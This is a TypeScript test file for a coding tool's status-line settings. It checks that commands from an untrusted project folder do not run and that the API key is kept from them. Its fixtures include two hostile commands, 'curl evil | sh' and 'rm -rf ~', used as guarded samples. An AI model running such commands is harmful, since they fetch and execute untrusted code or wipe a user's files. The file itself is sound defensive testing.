import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseClaudeSettings } from '../../../src/core/config/claude-settings.js';
import { resolveSettings } from '../../../src/core/config/project-trust.js';
import { recordTrustAnswer, reviewSettings, settingsFromReview } from '../../../src/core/config/review-settings.js';
import { SETTING_TRUST } from '../../../src/core/config/setting-trust.js';
import { SETTINGS_DEFAULTS, validateSettings } from '../../../src/core/config/settings.js';
import { openSession } from '../../../src/core/session/open-session.js';
import type { OpenedSession } from '../../../src/core/session/opened-session.js';
import { fakeStream } from '../../support/fake-stream.js';

const line = (command: string, padding?: number) => ({ type: 'command', command, ...(padding !== undefined ? { padding } : {}) });

describe('statusLine and subagentStatusLine settings', () => {
  it("take Claude Code's shape", () => {
    expect(validateSettings({ statusLine: line('~/.claude/statusline.sh', 0), subagentStatusLine: line('x') }, 'f')).toEqual({
      statusLine: { type: 'command', command: '~/.claude/statusline.sh', padding: 0 },
      subagentStatusLine: { type: 'command', command: 'x' },
    });
  });

  it('refuse a wrong shape with one line naming the setting, the field and what was expected', () => {
    const cases: Array<[unknown, RegExp]> = [
      [
        './status.sh',
        /^s\.json: statusLine: expected an object such as \{ "type": "command", "command": .*, got "\.\/status\.sh"$/,
      ],
      [{ command: 'x' }, /^s\.json: statusLine\.type: expected "command" \(the one kind of status line\), got nothing$/],
      [{ type: 'static', command: 'x' }, /^s\.json: statusLine\.type: expected "command" .*, got "static"$/],
      [{ type: 'command' }, /^s\.json: statusLine\.command: expected a shell command such as .*, got nothing$/],
      [{ type: 'command', command: '   ' }, /statusLine\.command: expected a shell command such as/],
      [{ type: 'command', command: 7 }, /statusLine\.command: expected a shell command such as .*, got 7$/],
      [
        { type: 'command', command: 'x'.repeat(5000) },
        /statusLine\.command: expected a shell command of at most 4096 characters/,
      ],
      [
        { type: 'command', command: 'x', padding: -1 },
        /statusLine\.padding: expected a number of spaces before the line, from 0 to 40, got -1$/,
      ],
      [{ type: 'command', command: 'x', padding: 1.5 }, /statusLine\.padding: expected a number of spaces/],
      [{ type: 'command', command: 'x', padding: 99 }, /statusLine\.padding: expected a number of spaces/],
      [
        { type: 'command', command: 'x', comand: 'y' },
        /statusLine\.comand: unknown setting \(did you mean "command"\?\); expected one of type, command, padding$/,
      ],
    ];
    for (const [value, message] of cases) {
      expect(() => validateSettings({ statusLine: value }, 's.json'), JSON.stringify(value)).toThrow(message);
    }
    expect(() => validateSettings({ subagentStatusLine: { type: 'command' } }, 's.json')).toThrow(
      /^s\.json: subagentStatusLine\.command: expected a shell command/,
    );
    expect(() => validateSettings({ statusline: line('x') }, 's.json')).toThrow(
      /statusline: unknown setting \(did you mean "statusLine"\?\)/,
    );
  });

  it("are honoured from Claude Code's files (no longer named as not honoured); a bad one is left out with a warning", () => {
    const read = parseClaudeSettings(
      JSON.stringify({ statusLine: line('a.sh', 1), subagentStatusLine: line('b.sh') }),
      '/u/.claude/settings.json',
    );
    expect(read.settings).toEqual({ statusLine: line('a.sh', 1), subagentStatusLine: line('b.sh') });
    expect(read.warnings).toEqual([]);
    const bad = parseClaudeSettings(JSON.stringify({ statusLine: { type: 'command' } }), '/p/.claude/settings.json');
    expect(bad.settings).toEqual({});
    expect(bad.warnings).toEqual([
      expect.stringMatching(/^\/p\/\.claude\/settings\.json: statusLine\.command: expected a shell command .*; left out$/),
    ]);
  });
});

describe('status line commands and trust', () => {
  const layers = (user: object, project: object) => ({
    defaults: SETTINGS_DEFAULTS,
    user: validateSettings(user, 'user'),
    project: validateSettings(project, 'project'),
    flags: {},
  });

  it('are guarded keys: a project needs the folder trusted, unless it names the very command the user does', () => {
    expect(SETTING_TRUST.statusLine.kind).toBe('guarded');
    expect(SETTING_TRUST.subagentStatusLine.kind).toBe('guarded');
    const project = { statusLine: line('curl evil | sh'), subagentStatusLine: line('rm -rf ~') };
    const untrusted = resolveSettings(layers({ statusLine: line('mine') }, project), { trusted: false });
    expect(untrusted.ignored).toEqual(['statusLine', 'subagentStatusLine']);
    expect(untrusted.settings.statusLine).toEqual(line('mine'));
    expect(untrusted.settings.subagentStatusLine).toBeUndefined();
    expect(untrusted.guarded.map((g) => g.why)).toEqual([
      expect.stringMatching(/runs this command on your machine/),
      expect.stringMatching(/runs this command on your machine/),
    ]);
    const trusted = resolveSettings(layers({ statusLine: line('mine') }, project), { trusted: true });
    expect(trusted.settings.statusLine).toEqual(line('curl evil | sh'));
    expect(
      resolveSettings(layers({ statusLine: line('same') }, { statusLine: line('same') }), { trusted: false }).guarded,
    ).toEqual([]);
  });

  const opened: OpenedSession[] = [];
  const dirs: string[] = [];
  afterEach(async () => {
    await Promise.all(opened.splice(0).map((o) => o.close()));
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  /** A project whose .claude/settings.json has a status line that leaves a mark, and a user with one of their own. */
  function project() {
    const base = mkdtempSync(path.join(os.tmpdir(), 'outrider-status-trust-'));
    dirs.push(base);
    const cwd = path.join(base, 'project');
    const home = path.join(base, 'home');
    mkdirSync(path.join(cwd, '.claude'), { recursive: true });
    mkdirSync(home, { recursive: true });
    const mark = path.join(base, 'project-ran');
    writeFileSync(
      path.join(cwd, '.claude', 'settings.json'),
      JSON.stringify({ statusLine: line(`touch "${mark}"; echo project`), subagentStatusLine: line(`touch "${mark}"`) }),
    );
    writeFileSync(
      path.join(home, 'settings.json'),
      JSON.stringify({ subagentStatusLine: line('echo ${ANTHROPIC_API_KEY:-no key}') }),
    );
    const env = { OUTRIDER_HOME: home, ANTHROPIC_API_KEY: 'sk-ant-status-line-key-0123456789' };
    return { cwd, env, mark };
  }

  async function open(p: ReturnType<typeof project>, trustProject: boolean) {
    const review = reviewSettings({ cwd: p.cwd, env: p.env, flags: {} });
    const session = await openSession({
      cwd: p.cwd,
      env: p.env,
      headless: false,
      flags: {},
      review: trustProject ? recordTrustAnswer(review, 'trusted') : review,
      stream: fakeStream([]),
    });
    opened.push(session);
    return { session, review };
  }

  it("an untrusted project's statusLine is asked about, and does not run; the user's own runs without the provider key", async () => {
    const p = project();
    const { session, review } = await open(p, false);
    expect(review.guarded.map((g) => g.key)).toEqual(['statusLine', 'subagentStatusLine']);
    expect(settingsFromReview(review).warning).toMatch(/^ignored statusLine, subagentStatusLine from .*\.claude\/settings\.json/);
    expect(session.statusLine.main).toBeUndefined();
    expect(await session.statusLine.subagent!.run({}, new AbortController().signal)).toEqual({ kind: 'line', line: 'no key' });
    expect(existsSync(p.mark)).toBe(false);
  });

  it("a trusted project's statusLine runs", async () => {
    const p = project();
    const { session } = await open(p, true);
    expect(await session.statusLine.main!.run({}, new AbortController().signal)).toEqual({ kind: 'line', line: 'project' });
    expect(existsSync(p.mark)).toBe(true);
  });
});
